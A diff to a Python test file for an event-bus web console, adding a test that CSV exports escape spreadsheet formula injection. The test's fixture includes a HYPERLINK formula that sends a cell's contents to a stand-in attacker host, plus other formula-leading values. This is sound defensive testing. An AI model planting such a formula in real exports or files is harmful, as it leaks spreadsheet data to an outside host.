@@ -1,5 +1,7 @@
 """The pages on the bus, dead letters, queries, contracts and activity, in this process."""
 
+import csv
+import io
 import json
 from collections.abc import Iterator
 from html import unescape
@@ -173,6 +175,17 @@ def test_the_list_is_filtered_and_saved_as_it_is_shown(visitor: Visitor) -> None
     assert page.text.count("data-row") == len(lines)
     assert len(visitor.get(f"/console/bus/events.csv?{query}").text.splitlines()) == len(lines) + 1
     assert "attachment" in saved.headers["content-disposition"]
+
+
+def test_no_saved_text_of_a_sender_is_a_formula(visitor: Visitor) -> None:
+    formula = '=HYPERLINK("https://evil.example/"&A1)'
+    visitor.host.put({"source": "+1", "detail-type": formula, "detail": {"order_id": "@SUM(1)"}})
+    text = visitor.get("/console/bus/events.csv?order=%40SUM(1)").text
+    [row] = csv.DictReader(io.StringIO(text))
+    found = (row["type"], row["source"], row["order_id"])
+    assert found == (f"'{formula}", "'+1", "'@SUM(1)")
+    query = urlencode({"q": "select '=1+1' as x, -5 as y", "dialect": "duckdb", "format": "csv"})
+    assert visitor.get(f"/console/queries/sql?{query}").text == "x,y\n'=1+1,-5\n"
 
 
 def test_an_event_without_a_contract_names_its_problems(visitor: Visitor) -> None:
